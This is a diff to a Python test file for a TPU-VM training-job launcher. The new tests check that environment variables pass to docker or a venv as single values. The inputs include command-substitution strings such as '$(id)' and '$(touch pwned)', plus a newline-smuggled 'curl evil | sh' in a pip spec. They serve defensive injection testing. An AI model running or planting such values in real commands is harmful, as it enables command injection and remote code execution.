@@ -276,6 +276,10 @@ def test_real_gcloud_parses_the_docs_set_up_commands(tmp_path):
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--config.x=a\tb"],
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--config=x"],  # trainer flags go after --
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/it's"],  # the one gs:// rule of launch/common.py
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=1BAD=x"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=NO_VALUE"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=A=b\nc"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=$(id)=1"],
     ["run", *_V4, "--pip-spec=jaxjob\ncurl evil | sh", "--workdir=gs://b-1/r"],
     ["run", *_V4, _IMAGE, "--pip-spec=jaxjob", "--workdir=gs://b-1/r"],
     ["logs", *_V4, "--workers=0"],
@@ -302,7 +306,8 @@ elif name == "gcloud" and sys.argv[1:3] == ["auth", "print-access-token"]:
 elif name == "curl":
   print("3")
 elif sys.argv[1:2] == ["run"] or sys.argv[1:3] == ["-m", "trainer"]:
-  print("training", "JAX_PLATFORMS=" + str(os.environ.get("JAX_PLATFORMS")))
+  print("training", "JAX_PLATFORMS=" + str(os.environ.get("JAX_PLATFORMS")),
+        "XLA_FLAGS=" + str(os.environ.get("XLA_FLAGS")))
   time.sleep(float(os.environ.get("STUB_SLEEP", "0")))
   sys.exit(42)
 """
@@ -372,6 +377,26 @@ def test_run_script_passes_each_value_as_one_argument(source, remote):
   assert "training" in log
   if source != "image":  # docker gets --env; the venv's python gets the variable itself
     assert "JAX_PLATFORMS=tpu" in log
+  assert not list(tmp.rglob("pwned"))
+
+
+@pytest.mark.parametrize("source", ["image", "pip_git"])
+def test_run_env_replaces_the_default_platform_and_stays_one_value(source, remote):
+  tmp, execute, calls = remote
+  kwargs = {"image": {"image": "us-docker.pkg.dev/p/r/jaxjob:tpu"},
+            "pip_git": {"pip_spec": "jaxjob[tpu] @ git+https://x/y"}}[source]
+  env = {"JAX_PLATFORMS": "cpu", "XLA_FLAGS": "--a=1 $(touch pwned) 'q'"}
+  script = tpu_vm.run_script("demo", "gs://b-1/r", [], env=env, remote_dir=str(tmp), **kwargs)
+  proc = execute(script)
+  assert proc.returncode == 0, proc.stderr
+  assert _wait_for(tmp / "jaxjob-demo.exit").strip() == "42"
+  if source == "image":
+    (run,) = [c for c in calls() if c[1:2] == ["run"]]
+    assert [a for a in run if a.startswith("--env=")] == [
+        "--env=JAX_PLATFORMS=cpu", "--env=XLA_FLAGS=--a=1 $(touch pwned) 'q'"]
+  else:
+    log = (tmp / "jaxjob-demo.log").read_text()
+    assert "JAX_PLATFORMS=cpu XLA_FLAGS=--a=1 $(touch pwned) 'q'" in log
   assert not list(tmp.rglob("pwned"))
 
 
